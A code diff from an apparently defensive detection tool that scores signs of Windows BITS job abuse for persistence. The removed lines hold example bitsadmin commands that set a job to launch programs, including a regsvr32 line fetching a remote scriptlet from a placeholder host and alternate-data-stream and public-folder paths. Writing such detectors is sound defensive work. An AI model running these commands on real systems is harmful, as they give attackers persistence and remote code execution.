@@ -1,7 +1,7 @@
 /** What outlives the command: programs that BITS starts, jobs that never end, a service that runs something else. */
 import type { Facts, Place } from '../../windows/index.js';
 import { isUserWritable } from '../places.js';
-import type { Example, Signal } from '../signal.js';
+import type { Signal } from '../signal.js';
 import { has, placeText, programName } from '../words.js';
 import { proxies } from './execution.js';
 
@@ -15,18 +15,16 @@ function program(facts: Facts, holds: (place: Place) => boolean): Place | undefi
 const lifetimes = /jobinactivitytimeout|maxdownloadtime/i;
 
 const isSet = (facts: Facts): boolean => facts.tools[0] !== 'notify' && !has(facts, 'notifyset', 'notifyfailed', 'notifyrun') && (facts.notify.length > 0 || has(facts, 'setnotifycmdline'));
-const notifyWith = (words: string): readonly Example[] => [{ process_name: 'bitsadmin.exe', process: `bitsadmin /setnotifycmdline job ${words}` }];
-const child = (image: string): readonly Example[] => [{ process_path: image, process: image, parent_process_path: 'C:\\Windows\\System32\\svchost.exe', parent_process: 'C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s BITS' }];
 
 export const persistenceSignals: readonly Signal[] = [
-  { id: 'notify-set', family: 'persistence', impact: 75, confidence: 72, techniques: ['T1197'], reason: (facts) => (isSet(facts) ? `BITS is told to start ${programText(facts)} when the job ends or fails` : undefined), examples: notifyWith('C:\\d\\a.exe NULL') },
+  { id: 'notify-set', family: 'persistence', impact: 75, confidence: 72, techniques: ['T1197'], reason: (facts) => (isSet(facts) ? `BITS is told to start ${programText(facts)} when the job ends or fails` : undefined) },
   { id: 'notify-logged', family: 'persistence', impact: 75, confidence: 72, techniques: ['T1197'], reason: (facts) => (has(facts, 'notifyset') ? 'the log says that a job was given a program to start' : undefined) },
   { id: 'notify-failed', family: 'persistence', impact: 75, confidence: 72, techniques: ['T1197'], reason: (facts) => (has(facts, 'notifyfailed') ? `BITS tried to start ${programText(facts)} for a job and failed; it tries again` : undefined) },
-  { id: 'notify-run', family: 'persistence', impact: 80, confidence: 72, techniques: ['T1197'], reason: (facts) => (has(facts, 'notifyrun') ? `BITS started ${facts.actor.image === undefined ? 'a program' : placeText({ text: facts.actor.image, kind: 'local' })} for a job` : undefined), examples: child('C:\\d\\a.exe') },
-  { id: 'notify-interpreter', family: 'persistence', impact: 85, confidence: 50, techniques: ['T1197'], reason: (facts) => named(program(facts, ({ text }) => interpreters.includes(programName(text))), (name) => `${name} runs whatever it is given as parameters`), examples: notifyWith('regsvr32.exe "/s a.dll"') },
-  { id: 'notify-user-folder', family: 'persistence', impact: 80, confidence: 45, techniques: ['T1197'], reason: (facts) => named(program(facts, isUserWritable), (name) => `the program to start, ${name}, lies where any user may write`), examples: notifyWith('C:\\Users\\Public\\a.exe NULL') },
-  { id: 'notify-stream', family: 'persistence', impact: 90, confidence: 80, techniques: ['T1197', 'T1564.004'], reason: (facts) => named(program(facts, ({ stream }) => stream !== undefined), (name) => `the program to start, ${name}, is an alternate data stream`), examples: notifyWith('C:\\d\\a.txt:b.exe NULL') },
-  { id: 'notify-url', family: 'persistence', impact: 85, confidence: 60, techniques: ['T1197'], reason: ({ notify }) => (notify.some(({ parameters }) => /https?:\/\//i.test(parameters ?? '')) ? 'the program to start is given a URL' : undefined), examples: notifyWith('regsvr32.exe "/s /i:https://files.example.net/a scrobj.dll"') },
+  { id: 'notify-run', family: 'persistence', impact: 80, confidence: 72, techniques: ['T1197'], reason: (facts) => (has(facts, 'notifyrun') ? `BITS started ${facts.actor.image === undefined ? 'a program' : placeText({ text: facts.actor.image, kind: 'local' })} for a job` : undefined) },
+  { id: 'notify-interpreter', family: 'persistence', impact: 85, confidence: 50, techniques: ['T1197'], reason: (facts) => named(program(facts, ({ text }) => interpreters.includes(programName(text))), (name) => `${name} runs whatever it is given as parameters`) },
+  { id: 'notify-user-folder', family: 'persistence', impact: 80, confidence: 45, techniques: ['T1197'], reason: (facts) => named(program(facts, isUserWritable), (name) => `the program to start, ${name}, lies where any user may write`) },
+  { id: 'notify-stream', family: 'persistence', impact: 90, confidence: 80, techniques: ['T1197', 'T1564.004'], reason: (facts) => named(program(facts, ({ stream }) => stream !== undefined), (name) => `the program to start, ${name}, is an alternate data stream`) },
+  { id: 'notify-url', family: 'persistence', impact: 85, confidence: 60, techniques: ['T1197'], reason: ({ notify }) => (notify.some(({ parameters }) => /https?:\/\//i.test(parameters ?? '')) ? 'the program to start is given a URL' : undefined) },
   { id: 'retry-often', family: 'persistence', impact: 70, confidence: 74, techniques: ['T1197'], reason: (facts) => (facts.tools.includes('bitsadmin') && (has(facts, 'setminretrydelay') || facts.settings.some(({ name }) => name === 'retrydelay')) ? 'the job is told how soon to try again, which keeps its program starting' : undefined) },
   { id: 'lifetime', family: 'persistence', impact: 70, confidence: 74, techniques: ['T1197', 'T1112'], reason: (facts) => (facts.settings.some(({ name, value }) => name === 'policy' && lifetimes.test(value ?? '')) ? 'the policy that ends idle or endless jobs is changed' : undefined) },
   { id: 'job-lifetime', family: 'persistence', impact: 65, confidence: 40, techniques: ['T1197'], reason: ({ settings }) => (settings.some(({ name }) => name === 'timeout' || name === 'maxdownloadtime') ? 'the time after which the job gives up is changed' : undefined) },
